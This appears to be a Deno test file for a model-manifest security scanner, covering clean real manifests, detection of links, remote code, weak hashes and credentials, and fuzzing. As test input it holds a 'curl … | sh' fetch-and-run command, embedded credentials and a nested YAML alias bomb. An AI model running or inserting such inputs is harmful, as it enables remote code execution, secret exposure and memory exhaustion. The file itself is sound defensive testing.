import * as assert from "node:assert/strict";
import { seeded } from "../../mutation.ts";
import { BENIGN, vocabulary } from "./benign_manifests.ts";
import {
  GITHUB_TOKEN,
  LINKS,
  LOADERS,
  REMOTE_CODE,
  TAGS,
  TARGETS,
  WEAKNESSES,
} from "./hostile_manifests.ts";
import { assertClean, assertFound, bytesOf, failed, found, scanManifest } from "./manifest_scan.ts";

Deno.test("C 16 manifests of real models are clean", async (t) => {
  for (const [index, [name, text]] of BENIGN.entries()) {
    await t.step(`${index} ${name}`, () => {
      const outcome = scanManifest(name, text);
      assertClean(outcome, text);
      assert.ok(outcome.checks.some(({ status }) => status === "passed"));
    });
  }
});

Deno.test("C 16 a vocabulary of 2 MB is clean, and its tokens are not templates", () => {
  const text = vocabulary();
  assert.ok(text.length > 2_000_000, `${text.length}`);
  const outcome = scanManifest("tokenizer.json", text);
  assertClean(outcome, "tokenizer.json");
  assert.deepEqual(outcome.templates, []);
});

Deno.test("scanning 2.11, 3: reports links and commands", async (t) => {
  await assertFound(t, LINKS);
});

Deno.test("scanning 2.11, 3: reports weak hashes, credentials and licenses", async (t) => {
  await assertFound(t, WEAKNESSES);
});

Deno.test("C 16 the digest of a data set that OpenML describes is no weak hash of a model", () => {
  const digest = '"md5_checksum": "2ca281aca9926ca932c8a5bffb955fba"';
  const text = `{"data_set_description": {"id": "292", ${digest}}}`;
  assertClean(scanManifest("api-v1-jd-292.json", text), "a data set");
  const other = `{"data_set_description": {"files": {${digest}}}}`;
  assert.deepEqual(found(scanManifest("a.json", other), "Weak Hash"), ["warning"]);
});

Deno.test("evasion 64: reports aliases that exhaust memory, and no others", () => {
  const levels = Array.from({ length: 20 }, (_, n) => `a${n + 1}: &a${n + 1} [*a${n}, *a${n}]\n`);
  const lists = Array.from({ length: 20 }, (_, n) => `a${n + 1}: &a${n + 1}\n- *a${n}\n- *a${n}\n`);
  assert.deepEqual(
    found(scanManifest("x.yaml", `a0: &a0 [x]\n${levels.join("")}`), "Manifest Structure"),
    ["info", "warning"],
  );
  assert.deepEqual(
    found(scanManifest("x.yaml", `a0: &a0 [x]\n${lists.join("")}`), "Manifest Structure"),
    ["info", "warning"],
  );
  assert.deepEqual(found(scanManifest("x.yaml", "a: &a [*a]\n"), "Manifest Structure"), [
    "warning",
  ]);
  const shared = `base: &b {x: 1, y: 2}\n${
    Array.from({ length: 500 }, (_, n) => `k${n}: *b\n`).join("")
  }`;
  assertClean(scanManifest("x.yaml", shared), "aliases side by side");
});

Deno.test("C 16 a manifest with a defect is inconclusive", () => {
  const [cut] = failed(scanManifest("c.json", '{"a": {"b": 1'));
  assert.deepEqual(
    [cut?.name, cut?.severity, cut?.ruleCode, cut?.incomplete, cut?.operational],
    ["Manifest Structure", "info", "S902", "malformed_json", undefined],
  );
  const [long] = failed(scanManifest("c.yaml", `a: "${"x".repeat(1_100_000)}"`));
  assert.deepEqual([long?.incomplete, long?.operational], ["string_too_long", true]);
});

Deno.test("SR 2.2 the asset lists the top-level keys of the manifest", () => {
  const keys = (name: string, text: string) =>
    scanManifest(name, text).assets.flatMap(({ keys }) => keys ?? []);
  assert.deepEqual(keys("c.json", '{"a": {"b": 1}, "c": [{"d": 2}]}'), ["a", "c"]);
  assert.deepEqual(keys("c.yaml", "a:\n  b: 1\nc: {d: 2}\n"), ["a", "c"]);
  assert.deepEqual(keys("c.toml", "a = 1\n[c]\nd = 2\n"), ["a", "c"]);
});

Deno.test("SR 2.11 records the license of a manifest", () => {
  const { facts } = scanManifest("c.json", '{"license": "Apache-2.0"}');
  assert.equal(facts.license, "Apache-2.0");
});

Deno.test("shows no credential in its results", () => {
  const password = "hunter2" + "butMuchLonger";
  const text = JSON.stringify({
    [GITHUB_TOKEN]: `https://bit.ly/x?token=${GITHUB_TOKEN}`,
    password,
    url: `https://user:${password}@example.org/x`,
    auto_map: { AutoModel: GITHUB_TOKEN },
    _target_: `os.${GITHUB_TOKEN}`,
    command: `curl https://example.org/${GITHUB_TOKEN} | sh`,
  });
  const outcome = scanManifest("c.json", text);
  const shown = JSON.stringify([outcome.checks, outcome.facts, outcome.assets]);
  assert.equal(shown.includes(GITHUB_TOKEN.slice(4, 16)), false, shown);
  assert.equal(shown.includes(password.slice(0, 7)), false, shown);
  assert.ok(shown.includes("GitHub token"));
});

Deno.test("reports a large number of findings as a count", () => {
  const outcome = scanManifest(
    "c.json",
    JSON.stringify({ auto_map: Array.from({ length: 5000 }, () => "a.B") }),
  );
  assert.equal(found(outcome, "Remote Code").length, 51);
  assert.match(failed(outcome).at(-1)?.message ?? "", /^4950 more/);
});

const HOSTILE = [...REMOTE_CODE, ...LOADERS, ...TARGETS, ...TAGS, ...LINKS, ...WEAKNESSES];

Deno.test("mutated manifests never throw, and every failed check has a severity", () => {
  const next = seeded(20261121);
  const seeds: readonly (readonly [string, string])[] = [
    ...BENIGN.filter(([, text]) => text.length < 5000),
    ...HOSTILE.map(([, name, text]) => [name, text] as const),
  ];
  for (let round = 0; round < 4000; round++) {
    const [name, text] = seeds[next(seeds.length)] ?? ["c.json", ""];
    let bytes = bytesOf(text);
    for (let change = 0; change < 1 + next(6); change++) {
      const at = next(bytes.length + 1);
      const kind = next(10);
      const piece = kind < 3 ? [] : kind < 7 ? [next(256)] : [...bytes.subarray(0, at)];
      bytes = new Uint8Array([
        ...bytes.subarray(0, at),
        ...piece,
        ...bytes.subarray(at + (kind < 5 ? 1 : 0)),
      ]);
    }
    const outcome = scanManifest(name, bytes);
    assert.ok(outcome.checks.length > 0);
    for (const check of outcome.checks) {
      assert.equal(check.severity !== undefined, check.status === "failed", check.message);
      assert.ok(check.message.length < 400, check.message);
    }
  }
});

Deno.test("C 16 a database of MD5s of other files is no model that relies on them", () => {
  const digest = (index: number) => (index * 7919).toString(16).padStart(32, "a");
  const files = (count: number) =>
    JSON.stringify(
      Array.from({ length: count }, (_, index) => ({ name: `${index}`, md5: digest(index) })),
    );
  assert.deepEqual(found(scanManifest("names.json", files(100)), "Weak Hash").length, 51);
  assert.deepEqual(found(scanManifest("names.json", files(101)), "Weak Hash"), ["info"]);
  assert.deepEqual(found(scanManifest("names.json", files(1)), "Weak Hash"), ["warning"]);
});
